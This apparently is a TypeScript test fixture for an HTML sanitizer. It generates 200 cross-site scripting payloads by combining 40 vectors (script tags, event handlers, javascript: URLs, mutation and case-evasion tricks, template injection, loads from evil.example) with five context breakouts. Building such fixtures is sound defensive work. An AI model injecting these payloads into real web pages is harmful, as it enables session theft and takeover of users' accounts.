/** What a payload calls if it ever runs as a script. */
const act = 'alert(1);taken()'

const vectors = [
  `<script>${act}</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<script src=data:text/javascript,${act}></script>`,
  `<SCRIPT/x>${act}</SCRIPT >`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<img src=x onerror=${act}>`,
  `<img src=https://evil.example/pixel.png>`,
  `<img src="x:x" onerror="${act}" class=taken>`,
  `<IMG """><SCRIPT>${act}</SCRIPT>">`,
  `<img src=x:alert(alt) onerror=eval(src) alt=1>`,
  `<image href=x onerror=${act}>`,
  `<svg onload=${act}>`,
  `<svg/onload=${act}//`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${act}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${act}</script></svg>#x"/>`,
  `<math><mi//xlink:href="data:x,<script>${act}</script>">`,
  `<math><mtext><table><mglyph><style><img src onerror=${act}>`,
  `<body onload=${act}>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src="javascript:${act}">`,
  `<a href="javascript:${act}">click</a>`,
  `<a href="JaVaScRiPt:${act}">click</a>`,
  `<a href=" &#14; javascript:${act}">click</a>`,
  `<a href="data:text/html,<script>${act}</script>">click</a>`,
  `<form action="javascript:${act}"><input type=submit></form>`,
  `<button formaction="javascript:${act}">click</button>`,
  `<input autofocus onfocus=${act}>`,
  `<details open ontoggle=${act}>`,
  `<video><source onerror=${act}></video>`,
  `<audio src=x onerror=${act}>`,
  `<marquee onstart=${act}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<base href=https://evil.example/>`,
  `<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/x)}</style>`,
  `{{constructor.constructor('${act}')()}}\${${act}}<%= ${act} %>#{${act}}`,
]

/** What ends the place where a careless page would have put the text. */
const ways = ['', '">', `'>`, '</title></textarea></style></script>', '-->]]>']

/** 200 texts that run a script where they are taken for HTML: each vector, behind each way out of an attribute, an element or a comment. */
export const scriptPayloads: string[] = ways.flatMap((way) => vectors.map((vector) => way + vector))
